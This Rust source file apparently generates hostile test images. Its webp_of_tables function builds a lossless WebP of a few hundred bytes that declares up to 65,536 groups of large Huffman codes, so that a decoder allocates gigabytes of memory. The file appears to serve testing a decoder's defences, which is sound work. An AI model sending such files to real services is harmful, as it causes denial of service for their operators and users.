//! Files made to harm, written from their formats' descriptions.

/// Bits as WebP's lossless streams have them, the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    /// Bits in the last byte, 0 when it is full.
    used: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.used == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= ((value >> bit & 1) as u8) << self.used;
            }
            self.used = (self.used + 1) % 8;
        }
    }

    /// A code of one symbol, which takes no bits.
    fn single(&mut self, symbol: u32) {
        self.put(0b101, 3);
        self.put(symbol, 8);
    }

    /// A code of 2,048 symbols with 11 bits each: the most memory for its length.
    fn large(&mut self) {
        /// Repeats the length before 3 to 6 times.
        const REPEAT: usize = 16;
        const LENGTH: usize = 11;
        const ORDER: [usize; 15] = [17, 18, 0, 1, 2, 3, 4, 5, REPEAT, 6, 7, 8, 9, 10, LENGTH];
        self.put(0, 1);
        self.put(ORDER.len() as u32 - 4, 4);
        for symbol in ORDER {
            self.put(u32::from(symbol == REPEAT || symbol == LENGTH), 3);
        }
        // 1 + 341 x 6 + 1 symbols in 343 codes, a number of 10 bits.
        self.put(1, 1);
        self.put(4, 3);
        self.put(343 - 2, 10);
        self.put(0, 1);
        for _ in 0..341 {
            self.put(0b111, 3);
        }
        self.put(0, 1);
    }
}

/// A lossless WebP of 4 x 4 pixels with this many groups of Huffman codes, at most 65,536: 138 bytes of file and
/// 69 kB of memory for each. It is cut behind its codes.
#[must_use]
pub fn webp_of_tables(groups: u32) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(0x2F, 8);
    bits.put(3, 14);
    bits.put(3, 14);
    // No alpha, version 0, no transform; a colour cache of 2,048 colours; several groups, in blocks of 4 x 4.
    bits.put(0, 4);
    bits.put(0, 1);
    bits.put(1, 1);
    bits.put(11, 4);
    bits.put(1, 1);
    bits.put(0, 3);
    // The picture of groups: one pixel, whose red and green are the number of the last group.
    let last = groups.clamp(1, 65_536) - 1;
    bits.put(0, 1);
    for symbol in [last & 0xFF, last >> 8, 0, 0, 0] {
        bits.single(symbol);
    }
    for _ in 0..=last {
        bits.large();
        for _ in 0..4 {
            // One symbol, of one bit: 0.
            bits.put(0b0001, 4);
        }
    }
    let mut stream = bits.bytes;
    if stream.len() % 2 == 1 {
        stream.push(0);
    }
    let mut file = b"RIFF".to_vec();
    file.extend((stream.len() as u32 + 12).to_le_bytes());
    file.extend(b"WEBPVP8L");
    file.extend((stream.len() as u32).to_le_bytes());
    file.extend(stream);
    file
}
